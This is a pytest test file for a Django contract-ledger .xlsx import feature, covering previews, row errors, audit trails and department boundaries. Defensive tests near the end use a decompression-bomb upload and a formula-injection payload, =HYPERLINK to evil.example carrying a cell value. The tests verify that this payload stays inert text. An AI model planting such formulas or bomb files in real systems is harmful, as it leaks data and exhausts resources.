"""Import of a department's contract ledger from .xlsx: preview, per-row errors, re-import updates,
and the department boundary."""

import base64
import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
import upload_bombs
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from factories import make_credit_code
from openpyxl import Workbook

from sifasuo.contracts import importing, services
from sifasuo.contracts.models import Contract, ContractStatus
from sifasuo.contracts.views import IMPORT_SESSION_KEY
from sifasuo.core.models import AuditEntry, Party

IMPORT = reverse("contracts:contract_import")


def ledger(rows):
    book = Workbook()
    sheet = book.active
    sheet.append(
        [
            "合同编号",
            "合同名称",
            "合同类型",
            "相对方",
            "统一社会信用代码",
            "合同金额",
            "签订日期",
            "到期日期",
        ]
    )
    for row in rows:
        sheet.append(row)
    buffer = BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("台账.xlsx", buffer.getvalue())


def preview(client, department, rows) -> str:
    response = client.post(IMPORT, {"department": department.pk, "file": ledger(rows)})
    assert response.status_code == 200
    return response.content.decode()


def confirm(client) -> str:
    return client.post(IMPORT, {"confirm": "1"}, follow=True).content.decode()


def trail(contract) -> list[AuditEntry]:
    return list(
        AuditEntry.objects.filter(
            object_type="contracts.contract", object_id=str(contract.pk)
        ).order_by("seq")
    )


@pytest.fixture
def rows():
    return [
        [
            "HT-001",
            "保洁服务",
            "服务合同",
            "洁美公司",
            make_credit_code(),
            120000,
            dt.datetime(2026, 1, 5),
            dt.datetime(2026, 12, 31),
        ],
        ["HT-002", "绿化养护", "服务合同", "园林公司", "", 5000, None, None],
        ["HT-003", "办公家具采购", "采购合同", "家具厂", "", 30000, dt.datetime(2026, 3, 1), None],
    ]


def test_preview_writes_nothing_and_import_registers_the_ledger(depts, login, rows):
    client = login(depts.business_clerk)
    text = preview(client, depts.business, rows)
    assert text.count("新增") == 3
    assert "导入 3 行" in text
    assert Contract.objects.count() == 0 and Party.objects.count() == 0

    assert "新增 3 份，更新 0 份，0 份无变化" in confirm(client)
    signed = Contract.objects.get(number="HT-001")
    assert signed.status == ContractStatus.SIGNED and signed.imported
    assert signed.signed_on == dt.date(2026, 1, 5) and signed.ends_on == dt.date(2026, 12, 31)
    assert signed.department == depts.business and signed.created_by == depts.business_clerk
    assert Contract.objects.get(number="HT-002").status == ContractStatus.DRAFT
    # Registered through the ordinary create path: in the trail and in the department's ledger.
    assert sorted(e.action for e in trail(signed)) == ["contract.create", "share.shared"]
    listing = client.get(reverse("contracts:contract_list")).content.decode()
    assert "保洁服务" in listing and "绿化养护" in listing


def test_clerk_import_leaves_another_departments_contract_alone(depts, login, make_contract):
    theirs = make_contract(number="QL-2026-001", title="道路保洁服务合同", amount="120000.00")
    their_trail = trail(theirs)
    client = login(depts.other_clerk)
    mine = [
        ["QL-2026-001", "低保走访车辆租赁", "租赁合同", "顺达汽车租赁", "", 8000, None, None],
        ["MZ-2026-002", "养老服务", "服务合同", "康乐养老", "", 60000, None, None],
    ]
    text = preview(client, depts.other, mine)
    assert importing.NUMBER_TAKEN in text
    for hint in ("道路保洁服务合同", "120000", "日照洁美", depts.business.name, "更新："):
        assert hint not in text
    assert "导入 2 行" not in text  # nothing to confirm while a row is in error

    assert "未导入任何一行" in confirm(client)
    theirs_now = Contract.objects.get(pk=theirs.pk)
    assert (theirs_now.title, theirs_now.amount, theirs_now.department) == (
        "道路保洁服务合同",
        Decimal("120000.00"),
        depts.business,
    )
    assert trail(theirs_now) == their_trail
    assert not Contract.objects.filter(department=depts.other).exists()


def test_reimport_writes_one_audit_row_per_changed_contract(depts, login, rows):
    client = login(depts.business_clerk)
    preview(client, depts.business, rows)
    confirm(client)
    before = {c.number: trail(c) for c in Contract.objects.all()}

    rows[0][5] = 150000  # amount
    rows[1][6] = dt.datetime(2026, 2, 1)  # the draft was signed
    text = preview(client, depts.business, rows)
    assert "更新：合同金额（元）" in text
    assert "更新：签订日期" in text
    assert "无变化" in text
    assert "新增 0 份，更新 2 份，1 份无变化" in confirm(client)

    contracts = {c.number: c for c in Contract.objects.all()}
    assert contracts["HT-001"].amount == Decimal("150000")
    assert contracts["HT-002"].status == ContractStatus.SIGNED
    added = {n: trail(c)[len(before[n]) :] for n, c in contracts.items()}
    assert [(e.action, set(e.changes)) for e in added["HT-001"]] == [
        ("contract.update", {"amount"})
    ]
    assert added["HT-001"][0].changes["amount"] == ["120000.00", "150000"]
    assert added["HT-001"][0].actor_id == depts.business_clerk.pk
    assert [(e.action, set(e.changes)) for e in added["HT-002"]] == [
        ("contract.update", {"signed_on", "status"})
    ]
    assert added["HT-003"] == []

    entries = AuditEntry.objects.count()
    preview(client, depts.business, rows)
    assert "新增 0 份，更新 0 份，3 份无变化" in confirm(client)
    assert AuditEntry.objects.count() == entries


def test_new_counterparty_on_reimport_is_added_and_audited(depts, login, rows):
    client = login(depts.business_clerk)
    preview(client, depts.business, rows[:1])
    confirm(client)
    rows[0][3], rows[0][4] = "新洁公司", ""
    assert "更新：相对方" in preview(client, depts.business, rows[:1])
    confirm(client)
    contract = Contract.objects.get()
    assert sorted(p.name for p in contract.counterparties.all()) == ["新洁公司", "洁美公司"]
    assert set(trail(contract)[-1].changes) == {"counterparties"}


def test_invalid_values_give_row_errors_and_nothing_is_written(depts, login, rows):
    client = login(depts.business_clerk)
    bad = [
        *rows,
        ["HT-004", "", "工程合同", "路桥公司", "", 1000, None, None],
        ["HT-005", "道路维修", "工程合同", "路桥公司", "", "abc", None, None],
        ["HT-006", "道路维修", "工程合同", "路桥公司", "91371102MA00000000", 1000, None, None],
        ["HT-007", "道路维修", "工程合同", "路桥公司", "", "1000.555", None, None],
        ["HT-001", "重复一行", "服务合同", "洁美公司", "", 1000, None, None],
    ]
    entries = AuditEntry.objects.count()
    text = preview(client, depts.business, bad)
    assert "台账中有 5 行错误" in text
    assert "<td>5</td>" in text and "缺少合同名称" in text
    assert "合同金额“abc”无效" in text
    assert "统一社会信用代码校验位不正确" in text
    assert "合同金额（元）：确认小数不超过 2 位" in text
    assert "合同编号与第2行重复" in text

    text = confirm(client)
    assert "未导入任何一行" in text
    assert "第5行：缺少合同名称" in text and "第9行：合同编号与第2行重复" in text
    assert Contract.objects.count() == 0 and Party.objects.count() == 0
    assert AuditEntry.objects.count() == entries


def test_a_row_failing_while_writing_undoes_the_whole_import(depts, make_contract, rows):
    parsed = importing.parse_ledger(
        ledger(rows).read(), user=depts.business_clerk, department=depts.business
    )
    assert not parsed.error_rows
    make_contract(number="HT-003")  # registered meanwhile by another hand
    entries = AuditEntry.objects.count()
    with pytest.raises(ValidationError) as caught:
        importing.ledger_import(
            actor=depts.business_clerk, department=depts.business, preview=parsed
        )
    assert "第4行：该合同编号已存在。" in caught.value.messages
    assert set(Contract.objects.values_list("number", flat=True)) == {"HT-003"}
    assert AuditEntry.objects.count() == entries


def test_platform_contract_is_not_rewritten_by_a_ledger(depts, login, make_contract):
    contract = make_contract(number="QL-2026-001", amount="120000.00")
    services.contract_submit_review(actor=depts.business_clerk, contract=contract)
    row = ["QL-2026-001", "道路保洁服务合同", "服务合同", "日照洁美", "", 99000, None, None]
    text = preview(login(depts.business_clerk), depts.business, [row])
    assert "不能通过导入台账修改" in text
    assert Contract.objects.get().amount == Decimal("120000.00")


def test_office_head_imports_for_the_department_chosen(world, depts, login, rows):
    clerk = login(depts.business_clerk)
    preview(clerk, depts.business, rows[:1])
    confirm(clerk)
    contract = Contract.objects.get()

    head = login(world.office_head)
    rows[0][1] = "道路与公厕保洁服务"
    assert importing.NUMBER_TAKEN in preview(head, depts.other, rows[:1])
    assert "更新：合同名称" in preview(head, depts.business, rows[:1])
    confirm(head)
    contract.refresh_from_db()
    assert contract.title == "道路与公厕保洁服务"
    update = trail(contract)[-1]
    assert (update.action, update.actor_id) == ("contract.update", world.office_head.pk)


def test_wrong_file_is_refused(depts, login):
    response = login(depts.business_clerk).post(
        IMPORT,
        {
            "department": depts.business.pk,
            "file": SimpleUploadedFile("台账.xlsx", b"garbage"),
        },
    )
    assert "无法读取该 Excel 文件" in response.content.decode()
    response = login(depts.business_clerk).post(
        IMPORT,
        {
            "department": depts.business.pk,
            "file": SimpleUploadedFile("台账.csv", b"a,b"),
        },
    )
    assert "只接受 .xlsx 文件" in response.content.decode()


def test_outsider_cannot_import_into_another_office(world, depts, login, rows):
    client = login(world.outsider)
    response = client.post(IMPORT, {"department": depts.business.pk, "file": ledger(rows)})
    assert response.status_code == 200
    assert "选择一个有效的选项" in response.content.decode()
    # Nor by sending a stored preview that names another office's department.
    session = client.session
    session[IMPORT_SESSION_KEY] = {
        "data": base64.b64encode(ledger(rows).read()).decode(),
        "department": depts.business.pk,
    }
    session.save()
    assert client.post(IMPORT, {"confirm": "1"}).status_code == 404
    assert Contract.objects.count() == 0
    assert login(world.supervisor).get(IMPORT).status_code == 403


HEADER = ["合同编号", "合同名称", "合同类型", "相对方", "统一社会信用代码", "合同金额"]


def _import(client, depts, data, name="台账.xlsx"):
    return client.post(
        reverse("contracts:contract_import"),
        {"department": depts.business.pk, "file": SimpleUploadedFile(name, data)},
    ).content.decode()


def test_a_ledger_that_unpacks_to_hundreds_of_megabytes_is_refused_cheaply(depts, login):
    bomb = upload_bombs.office_bomb(upload_bombs.xlsx([HEADER]), member="xl/sharedStrings2.xml")
    assert len(bomb) < 1024 * 1024  # well under the upload limit
    before = upload_bombs.peak_rss_mb()
    text = _import(login(depts.business_clerk), depts, bomb)
    assert "解压后过大（200 MB，上限 100 MB）或压缩比异常" in text
    assert upload_bombs.peak_rss_mb() - before < 50  # judged from the zip directory alone


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"%PDF-1.7 not a spreadsheet", "无法读取该 Excel 文件"),
        (upload_bombs.xlsx([HEADER])[:2000], "无法读取该 Excel 文件"),
        (b"PK\x03\x04" + bytes(range(256)) * 4, "无法读取该 Excel 文件"),
    ],
    ids=["wrong type", "truncated", "broken zip"],
)
def test_broken_or_wrong_ledgers_get_a_message(depts, login, data, message):
    assert message in _import(login(depts.business_clerk), depts, data)
    assert not Contract.objects.exists()


def test_formula_cells_are_not_evaluated_and_formula_text_stays_text(depts, login):
    evil = '=HYPERLINK("http://evil.example/?d="&B2,"点我")'
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["HT-1", evil, "服务合同", "洁美公司", "", 100])
    sheet["B2"].data_type = "s"  # text that looks like a formula
    sheet.append(["HT-2", "=CONCAT(A1,A2)", "服务合同", "甲", "", "=2*3"])  # live formulas
    buffer = BytesIO()
    book.save(buffer)
    client = login(depts.business_clerk)
    text = _import(client, depts, buffer.getvalue())
    # A formula is never computed: with no value saved beside it, the row says what is missing.
    assert "缺少合同名称" in text and "合同金额“None”无效" in text
    # A ledger with an invalid row imports nothing; the text row alone imports as text.
    client.post(reverse("contracts:contract_import"), {"confirm": "1"})
    assert not Contract.objects.exists()
    book = Workbook()
    book.active.append(HEADER)
    book.active.append(["HT-1", evil, "服务合同", "洁美公司", "", 100])
    book.active["B2"].data_type = "s"
    buffer = BytesIO()
    book.save(buffer)
    _import(client, depts, buffer.getvalue())
    client.post(reverse("contracts:contract_import"), {"confirm": "1"})
    assert list(Contract.objects.values_list("title", flat=True)) == [evil]


def test_an_overlong_ledger_is_refused(depts, login, monkeypatch):
    from sifasuo.contracts import importing

    monkeypatch.setattr(importing, "MAX_ROWS", 3)
    rows = [HEADER] + [[f"HT-{n}", "保洁", "服务合同", "洁美", "", 1] for n in range(5)]
    assert "台账超过 3 行，请拆分后分批导入" in _import(
        login(depts.business_clerk), depts, upload_bombs.xlsx(rows)
    )


def test_an_overlong_title_is_a_row_error(depts, login):
    data = upload_bombs.xlsx([HEADER, ["HT-1", "长" * 5000, "服务合同", "洁美", "", 1]])
    assert "合同名称超过" in _import(login(depts.business_clerk), depts, data)
